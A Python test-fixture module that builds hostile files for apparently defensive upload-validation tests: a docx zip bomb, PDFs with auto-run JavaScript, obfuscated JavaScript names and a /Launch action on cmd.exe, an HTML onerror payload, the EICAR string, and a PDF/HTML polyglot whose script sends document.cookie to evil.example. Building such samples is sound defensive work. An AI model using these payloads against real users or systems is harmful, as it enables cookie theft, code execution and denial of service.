"""Hostile files for tests, built in memory: zip bombs in Office clothing, active PDFs, polyglots."""

from __future__ import annotations

import io
import zipfile


def bomb_docx(xml_mb: int) -> bytes:
    """A valid .docx whose word/document.xml inflates to ``xml_mb`` MB (one repeated paragraph)."""
    from docx import Document

    buffer = io.BytesIO()
    Document().save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/document.xml":
                head, tail = data.split(b"<w:body>")
                paragraph = b"<w:p><w:r><w:t>" + "公开".encode() * 300 + b"</w:t></w:r></w:p>"
                data = head + b"<w:body>" + paragraph * (xml_mb * 1024 * 1024 // len(paragraph)) + tail
            package.writestr(item, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return out.getvalue()


def many_entries_xlsx(entries: int) -> bytes:
    """A workbook package padded with ``entries`` tiny extra parts."""
    from openpyxl import Workbook

    buffer = io.BytesIO()
    Workbook().save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for item in source.infolist():
            package.writestr(item, source.read(item.filename))
        for number in range(entries):
            package.writestr(f"xl/media/pad{number}.bin", b"x")
    return out.getvalue()


def _pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A well-formed PDF from object bodies (numbered from 1), with a correct xref table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    )
    return out.getvalue()


PAGES = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
]


def pdf_open_action_js() -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *PAGES,
            b"<< /S /JavaScript /JS (app.alert(1)) >>",
        ]
    )


def pdf_escaped_javascript_name() -> bytes:
    """/J#61vaScript and /J#53 are /JavaScript and /JS once the name escapes are decoded."""
    return _pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *PAGES, b"<< /S /J#61vaScript /J#53 (1) >>"]
    )


def pdf_launch_action() -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *PAGES,
            b"<< /S /Launch /F (cmd.exe) >>",
        ]
    )


def pdf_page_additional_action() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>"
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES[0], page, b"<< /S /URI /URI (http://x) >>"])


def pdf_html_polyglot() -> bytes:
    """Starts with %PDF- (so it sniffs as a PDF) but carries a page a browser would run."""
    html = (
        b"<html><body><script>document.location='http://evil.example/'+document.cookie</script></body></html>"
    )
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *PAGES]).replace(
        b"%PDF-1.7\n", b"%PDF-1.7\n" + html + b"\n", 1
    )


def html_behind_a_text_line() -> bytes:
    return "关于公开的说明\n<html><body><img src=x onerror=alert(1)></body></html>\n".encode()


# The EICAR anti-virus test string (not a virus; every scanner reports it by name).
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
